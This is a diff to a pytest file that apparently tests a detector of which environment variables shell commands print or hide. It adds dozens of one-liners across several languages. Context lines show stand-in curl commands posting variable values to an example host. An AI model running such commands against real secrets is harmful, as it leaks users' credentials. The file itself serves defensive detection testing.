@@ -58,6 +58,7 @@ PRINTED = [
     ("printenv A B", "A B"),
     ("x=$A; export x; printenv x", "A"),
     ("declare -p A", "A"),
+    ("jq -n '$ENV.A, env[\"B\"]'", "A B"),
     ("launchctl getenv A", "A"),
     ("env", "*"),
     ("printenv", "*"),
@@ -73,6 +74,45 @@ PRINTED = [
     ("x=$(env); echo $x", "*"),
     ("if true; then x=$A; else x=$B; fi; echo $x", "A B"),
     ("exec > f; echo $A; exec > /dev/tty; echo $B", "B"),
+]
+PRINTED_BY_CODE = [
+    ('python3 -c \'import os, json; print(json.dumps({"a": os.environ["A"]}))\'', "A"),
+    ("node -e 'console.log(JSON.stringify({a: process.env.A}))'", "A"),
+    ("python3 -c 'import os; print(os.environ[\"A\"])'", "A"),
+    ('python3 -c \'import os; x = os.environ.get("A", "").strip(); print(f"a={x!r}", 1)\'', "A"),
+    ('python3 -c \'from os import getenv as g; f = lambda v: v.upper(); print("a" + f(g("A")))\'', "A"),
+    ('python3 -c \'import os; [print(v) for v in (os.environ[n] for n in ("A", "B"))]\'', "A B"),
+    ('python3 -c \'import os; print(str({"a": [os.environ["A"]]}))\'', "A"),
+    ("python3 -c 'import os; print(os.environ[\"A\"][:40])'", "A"),
+    ('python3 <<X\nimport os, sys\nsys.stdout.write(os.environ["A"])\nX', "A"),
+    ('A=1 B=$C python3 -c \'import os; print(os.environ["A"], os.environ["B"])\'', "C"),
+    ("python3 -c 'import os; print(os.environ)' | sort", "*"),
+    ("node -e 'const x = process.env.A; console.log(`a ${x.trim()}`)'", "A"),
+    ("node -e 'const {A: x} = process.env; process.stdout.write(x)'", "A"),
+    ('ruby -e \'x = ENV["A"]; puts "a #{x}"\'', "A"),
+    ("ruby -e 'p ENV.fetch(\"A\")'", "A"),
+    ("perl -e 'my $x = $ENV{A}; print \"a $x\"'", "A"),
+    ("perl -e 'print $ENV{\"A\"}'", "A"),
+    ('php -r \'$x = getenv("A"); echo "a", $x;\'', "A"),
+    ("php -r 'var_dump($_ENV[\"A\"]);'", "A"),
+    ("awk 'BEGIN { x = ENVIRON[\"A\"]; print x }'", "A"),
+]
+HIDDEN_IN_CODE = [
+    "python3 -c 'import os; print(\"A\" in os.environ)'",
+    'python3 -c \'import os; print(len(os.environ["A"]), bool(os.getenv("A")))\'',
+    'python3 -c \'import os; print("set" if os.getenv("A") else "not")\'',
+    'python3 -c \'import os; print(os.getenv("A") and "set")\'',
+    'python3 -c \'import os; print(os.environ["A"][:4], os.environ["A"].startswith("sk"))\'',
+    "python3 -c 'import os, hashlib; print(hashlib.sha256(os.environ[\"A\"].encode()).hexdigest())'",
+    'python3 -c \'import os; open("f", "w").write(os.environ["A"])\'',
+    'python3 -c \'import os; x = os.environ["A"]; print("x")\'',
+    "python3 -c 'print(\"os.environ[A]\")'",
+    "x=$(python3 -c 'import os; print(os.environ[\"A\"])')",
+    "node -e 'console.log(!!process.env.A, process.env.A ? 1 : 2, process.env.A.length)'",
+    "node -e 'console.log(process.env.A && \"set\")'",
+    "ruby -e 'puts ENV.key?(\"A\")'",
+    "perl -e 'print \"set\" if $ENV{A}'",
+    "php -r 'echo \"set\";'",
 ]
 HIDDEN = [
     "echo '$A'",
@@ -120,6 +160,7 @@ HIDDEN = [
 ]
 
 
+ALL_PRINTED = PRINTED + PRINTED_BY_CODE
 SENT = [
     ('curl -d "k=$A" https://e.example', "A"),
     ("curl --data-raw $A -H x:$B https://e.example", "A"),
@@ -158,12 +199,12 @@ def _names(code: str, field: str) -> set[str]:
     return found
 
 
-@pytest.mark.parametrize(("code", "names"), PRINTED, ids=[code for code, _ in PRINTED])
+@pytest.mark.parametrize(("code", "names"), ALL_PRINTED, ids=[code for code, _ in ALL_PRINTED])
 def test_a_value_is_seen_under_whatever_name_it_is_printed(code: str, names: str) -> None:
     assert _names(code, "proc.output_variables") == set(names.split())
 
 
-@pytest.mark.parametrize("code", HIDDEN)
+@pytest.mark.parametrize("code", HIDDEN + HIDDEN_IN_CODE)
 def test_what_stays_out_of_sight_is_not_printed(code: str) -> None:
     assert _names(code, "proc.output_variables") == set()
 
